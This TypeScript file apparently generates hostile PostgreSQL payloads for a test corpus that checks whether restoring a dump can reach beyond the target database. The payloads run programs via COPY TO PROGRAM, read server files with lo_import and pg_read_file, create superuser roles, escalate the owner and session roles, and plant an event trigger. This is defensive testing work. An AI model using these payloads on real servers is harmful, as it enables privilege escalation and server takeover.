// What hostile content does once it runs: each payload acts outside the restored database, and
// only a superuser session (or a role with pg_execute_server_program, pg_read_server_files,
// pg_write_server_files or CREATEROLE) may do it.

/** Names this corpus bakes into its files; every one carries the corpus' random suffix. */
export interface CorpusNames {
  suffix: string;
  sentinel: string;
  /** A role of the server that the restore has no business with. */
  victimRole: string;
  /** A database of the server other than the restore's target. */
  otherDatabase: string;
}

/** A server file that exists and that only privileged sessions may read. */
export const SERVER_FILE = '/etc/hostname';

export const literal = (text: string): string => `'${text.replaceAll("'", "''")}'`;

/** Routes are kebab-case (file names); their database objects use the snake_case form. */
export const snake = (route: string): string => route.replaceAll('-', '_');

export const evilRolePrefix = (names: CorpusNames): string => `pgbs_evil_${names.suffix}_`;
export const evilRole = (names: CorpusNames, route: string): string => `${evilRolePrefix(names)}${snake(route)}`;

/** The shell command a route runs through the server: it leaves `<sentinel>/<mark>-<route>`. */
export const touch = (names: CorpusNames, mark: string, route: string): string =>
  `touch ${names.sentinel}/${mark}-${route}`;

/**
 * Runs a program that leaves `<sentinel>/<mark>-<route>`. The program reads what COPY writes: one
 * that did not (touch) could exit first and fail the COPY with a broken pipe.
 */
export const copyToProgram = (names: CorpusNames, mark: string, route: string): string =>
  `COPY (SELECT 1) TO PROGRAM ${literal(`cat > ${names.sentinel}/${mark}-${route}`)};`;

/**
 * The payloads of one route as PL/pgSQL statements. Swallowed: each runs in its own exception
 * block, so a session without the privilege goes on as if nothing happened. Every payload can
 * run twice (an index expression may be evaluated more than once per row).
 */
export function payloadStatements(names: CorpusNames, route: string, swallow: boolean): string {
  const evil = evilRole(names, route);
  const trigger = `pgbs_evil_${names.suffix}_${snake(route)}`;
  const payloads = [
    // Runs a program as the server's OS user.
    copyToProgram(names, 'program', route),
    // Reads a server file into a large object and writes it back out anywhere (two statements:
    // one does not see a large object it created itself).
    `DECLARE o oid; BEGIN o := pg_catalog.lo_import(${literal(SERVER_FILE)}); ` +
      `PERFORM pg_catalog.lo_export(o, ${literal(`${names.sentinel}/lo-export-${route}`)}); ` +
      `PERFORM pg_catalog.lo_unlink(o); END;`,
    // Reads a server file into the restored data, where the attacker can select it.
    `INSERT INTO hostile.loot (route, content) VALUES (${literal(route)}, pg_catalog.pg_read_file(${literal(SERVER_FILE)}));`,
    // A new superuser that can log in.
    `IF NOT EXISTS (SELECT FROM pg_catalog.pg_roles WHERE rolname = ${literal(evil)}) THEN ` +
      `CREATE ROLE ${evil} SUPERUSER LOGIN; END IF;`,
    // The owner of the target database, the role the application logs in as, becomes a superuser.
    `EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', (SELECT pg_catalog.pg_get_userbyid(datdba) ` +
      `FROM pg_catalog.pg_database WHERE datname = pg_catalog.current_database()));`,
    // So does the restore's own login (the short-lived role of a privilege-separated restore).
    `ALTER ROLE SESSION_USER SUPERUSER;`,
    `ALTER ROLE ${names.victimRole} SET work_mem = '64kB';`,
    `ALTER DATABASE ${names.otherDatabase} SET work_mem = '64kB';`,
    // An event trigger that runs a program on every later DDL in the target, by whoever runs it.
    `IF NOT EXISTS (SELECT FROM pg_catalog.pg_event_trigger WHERE evtname = ${literal(trigger)}) THEN ` +
      `CREATE FUNCTION hostile.${trigger}() RETURNS event_trigger LANGUAGE plpgsql AS $evt$ BEGIN ` +
      `${copyToProgram(names, 'event-trigger', route)} END $evt$; ` +
      `CREATE EVENT TRIGGER ${trigger} ON ddl_command_end EXECUTE FUNCTION hostile.${trigger}(); END IF;`,
  ];
  return payloads
    .map((payload) => (swallow ? `BEGIN ${payload} EXCEPTION WHEN OTHERS THEN NULL; END;` : payload))
    .join('\n');
}

/** A PL/pgSQL function `hostile.<name>()` returning true; `body` runs first. */
export function booleanFunction(
  name: string,
  body: string,
  { securityDefiner = false }: { securityDefiner?: boolean } = {},
): string {
  return `CREATE OR REPLACE FUNCTION hostile.${name}() RETURNS boolean LANGUAGE plpgsql
${securityDefiner ? 'SECURITY DEFINER ' : ''}AS $payload$
BEGIN
${body}
RETURN true;
END $payload$;`;
}
